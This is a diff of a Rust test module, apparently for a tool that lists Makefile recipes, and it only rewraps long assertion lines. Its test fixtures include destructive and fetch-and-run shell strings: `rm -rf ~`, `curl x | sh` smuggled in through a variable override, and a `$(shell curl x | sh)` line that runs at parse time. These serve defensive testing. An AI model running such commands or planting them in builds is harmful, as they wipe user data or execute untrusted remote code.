@@ -450,7 +450,10 @@ mod tests {
             make_recipes(text, &[], &[]).unwrap(),
             ["echo $HOME > gen.txt", "cargo build --release"]
         );
-        assert_eq!(make_recipes(text, &["nuke".into()], &[]).unwrap(), ["rm -rf ~"]);
+        assert_eq!(
+            make_recipes(text, &["nuke".into()], &[]).unwrap(),
+            ["rm -rf ~"]
+        );
         assert!(make_recipes(text, &["missing".into()], &[]).is_err());
         // Command-line variables override the Makefile's.
         let cc = [("CARGO".to_string(), "curl x | sh;".to_string())];
@@ -470,7 +473,11 @@ mod tests {
         assert!(make_recipes("x:\n\t$(RM) -rf out\n", &["x".into()], &[]).is_err());
         assert!(make_recipes("x:\n\t$(foreach d,a b,rm $(d))\n", &["x".into()], &[]).is_err());
         // `$(shell …)` runs while make reads the file, whatever the target.
-        let lines = make_recipes("V := $(shell curl x | sh)\nx:\n\techo hi\n", &["x".into()], &[]);
+        let lines = make_recipes(
+            "V := $(shell curl x | sh)\nx:\n\techo hi\n",
+            &["x".into()],
+            &[],
+        );
         assert_eq!(lines.unwrap(), ["curl x | sh", "echo hi"]);
     }
 
